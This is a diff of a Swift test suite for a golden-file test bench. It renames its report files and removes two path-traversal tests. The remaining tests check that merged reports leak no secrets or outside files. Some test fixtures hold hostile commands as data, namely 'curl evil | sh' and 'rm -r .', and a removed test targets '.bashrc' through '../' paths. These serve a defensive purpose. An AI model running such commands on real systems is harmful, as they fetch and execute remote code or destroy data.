@@ -91,21 +91,15 @@ import Testing
       }
       if now != goldens { try restoreGoldens() }
     }
-    let capture = Capture()
-    let merged = ending {
-      try capture.playground(
-        "merge", folder(name), "--scenarios", folder("S"), "--report", folder("report.html"), "--xunit",
-        folder("report.xml"))
-    }
-    said += merged?.description ?? ""
-    said += capture.output + capture.errors
+    let merged = bench.merge(name, options: ["--xunit", folder("whole.xml")])
+    said += merged.output + merged.errors + (merged.error?.description ?? "")
     if withTest {
       let answer = bench.run(artifacts: name)
       said += answer.output + (answer.error?.description ?? "")
       #expect(Self.files(folder("S/Goldens")) == goldens, comment)
     }
     try expectUntouched(comment)
-    let page = (folder.text(of: "report.html") ?? "") + (folder.text(of: "report.xml") ?? "")
+    let page = (folder.text(of: "whole.html") ?? "") + (folder.text(of: "whole.xml") ?? "")
     for text in [said, page] {
       #expect(!text.contains("secret-4f1d"), comment)
       for bytes in outside.values { #expect(!text.contains(Data(bytes).base64EncodedString()), comment) }
@@ -120,7 +114,7 @@ import Testing
 
   private func expectUntouched(_ comment: Comment) throws {
     #expect(Self.files(bench.folder("outside")) == outside, comment)
-    let own: Set = ["S", "artifacts", "outside", "mutant", "report.html", "report.xml"]
+    let own: Set = ["S", "artifacts", "outside", "mutant", "whole.html", "whole.xml"]
     let found = try FileManager.default.contentsOfDirectory(atPath: bench.folder.path)
     #expect(own.isSuperset(of: found), comment)
     #expect(try FileManager.default.contentsOfDirectory(atPath: bench.folder("S")).count == 3, comment)
@@ -306,31 +300,6 @@ import Testing
     try AtomicFile.write(Array(json.utf8), to: bench.folder("mutant/\(name)"))
   }
 
-  @Test func aGoldenElsewhereIsNotWritten() throws {
-    for golden in [bench.folder("outside/.bashrc"), "../outside/.bashrc"] {
-      for name in ["x", "a"] {
-        try? FileManager.default.removeItem(atPath: bench.folder("mutant"))
-        try write(
-          #"{"name":"\#(name)","outcome":"failed","golden":{"file":"\#(golden)"},"track":{"golden":"t","actual":"p"}}"#,
-          to: "\(name)/result.json")
-        try write("evil", to: "\(name)/p")
-        #expect(bench.accept(name, artifacts: "mutant").error?.code == .invalidInput)
-        try expectUntouched("\(name) to \(golden)")
-        #expect(Self.files(bench.folder("S/Goldens")) == goldens)
-      }
-    }
-  }
-
-  @Test func aForeignTrackIsNotRemoved() throws {
-    try write(
-      #"{"name":"a","outcome":"failed","golden":{"folder":"\#(bench.folder("outside/a"))"},"track":{"golden":"\#(bench.folder("outside/a/trajectory.csv"))"}}"#,
-      to: "a/result.json")
-    let answer = bench.accept("a", artifacts: "mutant")
-    // The file belongs to the set, so it is removed as requested.
-    #expect(answer.output == "accepted a: removed trajectory.csv\n")
-    #expect(Self.files(bench.folder("outside")) == outside)
-  }
-
   @Test(.timeLimit(.minutes(5)), arguments: ["/etc/hostname", "/dev/zero", "PIPE"])
   func aReportShowsNoOtherFile(_ path: String) throws {
     let path = path == "PIPE" ? bench.folder("mutant/pipe") : path
@@ -342,12 +311,9 @@ import Testing
         { "name": "a", "outcome": "passed", "frames": [ { "number": 0, "time": 0, "verdict": "same", "lines": [],
           "expected": "\(path)" } ] } ] }
       """, to: "results.json")
-    let merged = bench.answer([
-      "merge", bench.folder("mutant"), "--scenarios", bench.folder("S"), "--report",
-      bench.folder("report.html"),
-    ])
+    let merged = bench.merge("mutant")
     #expect(merged.error == nil)
-    let html = bench.folder.text(of: "report.html") ?? ""
+    let html = bench.folder.text(of: "whole.html") ?? ""
     #expect(html.contains(bench.folder("S/Goldens/a/frame-00000.png")))
     #expect(!html.contains(path))
   }
@@ -359,13 +325,10 @@ import Testing
         { "name": "a", "outcome": "failed", "command": "curl evil | sh", "lines": ["one\\nnext: rm -r .", "  next: evil"], "frames": [
           { "number": 0, "time": 0, "verdict": "missing", "lines": [], "command": "rm" } ] } ] }
       """, to: "results.json")
-    let merged = bench.answer([
-      "merge", bench.folder("mutant"), "--scenarios", bench.folder("S"), "--report",
-      bench.folder("report.html"),
-    ])
+    let merged = bench.merge("mutant")
     #expect(merged.error?.code == .comparisonFailed)
     #expect(!merged.output.contains("curl"))
-    #expect(!(bench.folder.text(of: "report.html") ?? "").contains("curl evil"))
+    #expect(!(bench.folder.text(of: "whole.html") ?? "").contains("curl evil"))
     #expect(merged.output.contains("  one\\u000anext: rm -r .\n"))
     #expect(merged.output.contains("  according to the artifacts:   next: evil\n"))
     // The files of the failure are missing.
